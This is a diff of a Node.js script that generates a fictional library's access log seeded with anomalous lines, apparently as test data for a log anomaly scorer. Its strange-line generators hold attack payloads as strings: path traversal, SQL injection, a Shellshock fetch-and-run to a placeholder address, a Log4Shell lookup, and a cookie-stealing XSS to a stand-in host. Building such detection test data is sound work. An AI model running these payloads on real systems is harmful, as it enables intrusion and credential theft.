@@ -1,10 +1,10 @@
-// Writes the access log of a made-up library, with a few lines among it as scanners, broken clients and crashes leave
-// them: something to find with `charnn score`.
+// Writes the access log of a fictional library with a few strange lines, like those of scanners, broken clients and
+// crashes, to be found with `charnn score`.
 //
 //     node scripts/make-access-log.mjs --lines 100000 --strange 10 --list strange.txt > access.log
 //
-// `--list FILE` is given the strange lines alone. The same options give the same log; `--rng-seed WORD` gives another.
-// Addresses are those that RFC 5737 keeps for documentation, hosts those of RFC 2606.
+// `--list FILE` writes only the strange lines to FILE. The same options give the same log; `--rng-seed WORD` gives
+// another. Addresses are from RFC 5737 and host names from RFC 2606, which reserve them for documentation.
 import { once } from 'node:events';
 import { writeFileSync } from 'node:fs';
 import { parseArgs } from 'node:util';
@@ -20,25 +20,27 @@ const { values: options } = parseArgs({
 });
 const [lineCount, strangeCount] = [Number(options.lines), Number(options.strange)];
 if (!Number.isSafeInteger(lineCount) || !(strangeCount >= 0 && strangeCount <= lineCount)) {
-  console.error('make-access-log: --lines and --strange are whole numbers, --strange the smaller');
+  console.error(
+    'make-access-log: --lines and --strange must be whole numbers, with --strange at most --lines',
+  );
   process.exit(2);
 }
 
 const random = seedrandom(options['rng-seed']);
-/** A whole number from `low` to `high`. */
+/** Returns a random whole number from `low` to `high`. */
 const between = (low, high) => low + Math.floor(random() * (high - low + 1));
 const oneOf = (things) => things[between(0, things.length - 1)];
 const many = (count, make) => Array.from({ length: count }, make);
 const digits = (count, radix = 10) => many(count, () => between(0, radix - 1).toString(radix)).join('');
-/** Bytes as a server's log escapes them. */
+/** Returns random bytes, escaped as in a server log. */
 const escapedBytes = (count) => many(count, () => `\\x${digits(2, 16).toUpperCase()}`).join('');
 
-// The library: what is asked for, and by which programs.
+// The library: its pages and the programs that request them.
 
-const subjects = [
-  ...['birds', 'bridges', 'clocks', 'dyes', 'ferns', 'glass', 'harbours', 'islands', 'kites', 'looms'],
-  ...['maps', 'moss', 'orchards', 'paper', 'rivers', 'salt', 'sails', 'soil', 'stars', 'tides', 'wool'],
-];
+const subjects = (
+  'birds bridges clocks dyes ferns glass harbours islands kites looms maps moss ' +
+  'orchards paper rivers salt sails soil stars tides wool'
+).split(' ');
 const pages = ['hours', 'contact', 'rooms', 'membership', 'new', 'children', 'events'];
 const files = [
   'css/main.css',
@@ -48,7 +50,7 @@ const files = [
   'img/logo.svg',
   'img/reading-room.jpg',
 ];
-/** Firefox, which tells its version twice. */
+/** The user agent of Firefox, which contains its version twice. */
 const firefox = (version) =>
   `Mozilla/5.0 (X11; Linux x86_64; rv:${version}.0) Gecko/20100101 Firefox/${version}.0`;
 const agents = [
@@ -67,7 +69,7 @@ const agents = [
   () => `curl/8.${between(0, 9)}.${between(0, 1)}`,
 ];
 
-/** A path that is asked for, how, and the usual answer's range of bytes. */
+/** Requests: method and path, then the range of the usual response size in bytes. */
 const requests = [
   () => [`GET /books/${between(1000, 29999)}`, 4200, 9800],
   () => [`GET /books/${between(1000, 29999)}/cover.jpg`, 11000, 64000],
@@ -99,52 +101,52 @@ function usualLine(time) {
   return entry(time, `${request} HTTP/1.1`, status, bytes, oneOf(agents)(), referer);
 }
 
-// What does not belong there: request, status, bytes and agent.
+// Strange lines: request, status, bytes and user agent.
 
 const cookieTheft = '%22%3E%3Cscript%3Elocation=%27//x.example.net/?c=%27%2Bdocument.cookie%3C/script%3E';
 const unionSelect = "'%20UNION%20SELECT%20NULL,CONCAT(0x7171,login,0x3a,pass),NULL%20FROM%20users--%20";
 const strangeRequests = [
-  // A search for a server with a hole.
+  // A scan for a vulnerable server.
   () => ['GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1', 400, 157, 'zgrab/0.x'],
-  // An injection into a query of the database.
+  // An SQL injection.
   () => [`GET /books/${between(1000, 29999)}${unionSelect} HTTP/1.1`, 500, 612, firefox(128)],
-  // A command where a program should tell its name.
+  // A shell command in the user agent.
   () => ['GET / HTTP/1.0', 200, 5120, `() { :;}; /bin/bash -c 'wget -qO- http://${address()}/x|sh'`],
-  // TLS spoken to a port that does not.
+  // TLS on a plain HTTP port.
   () => [`\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03${escapedBytes(22)}`, 400, 157, '-'],
-  // All that a page had in its memory, as a query.
+  // A memory dump as a query.
   () => [
     `GET /search?q=${many(60, () => digits(between(3, 11), 36)).join('%7C')} HTTP/1.1`,
     414,
     177,
     firefox(120),
   ],
-  // A user agent of which half was lost, half written twice.
+  // A garbled user agent.
   () => [
     'GET /about/hours HTTP/1.1',
     200,
     4100,
     `Mozi (compatib; MSIE;; MSIE 6.0b; Wind NT;;) ++Opr%%20@@${digits(6, 36)}`,
   ],
-  // A name that a careless logger would look up.
+  // A JNDI lookup for a vulnerable logger.
   () => [
     `GET /search?q=\${jndi:ldap://x.example.net/${digits(24, 36)}} HTTP/1.1`,
     200,
     5210,
     '${${::-j}ndi:rmi}',
   ],
-  // A script for whoever looks at the log in a browser.
+  // Cross-site scripting, for readers of the log in a browser.
   () => [`GET /search?q=${cookieTheft} HTTP/1.1`, 200, 5333, 'shelf-app/3.1.4 (android 14)'],
-  // The first words of a remote desktop.
+  // The first bytes of a remote desktop connection.
   () => ['\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr', 400, 157, '-'],
 ];
-/** A line of another program that writes into the same file. */
+/** Returns a line of another program that writes to the same file. */
 const crash = () =>
   `java.lang.IllegalStateException: Pool exhausted (size=${between(10, 99)}) ` +
   `at org.example.shelf.LoanStore.renew(LoanStore.java:${between(100, 900)})`;
 const strange = [...strangeRequests.map((request) => (time) => entry(time, ...request())), crash];
 
-// The log: the strange lines at places of their own, the kinds in turn.
+// The log: strange lines at random places, their kinds in turn.
 
 const places = new Map();
 while (places.size < strangeCount) {
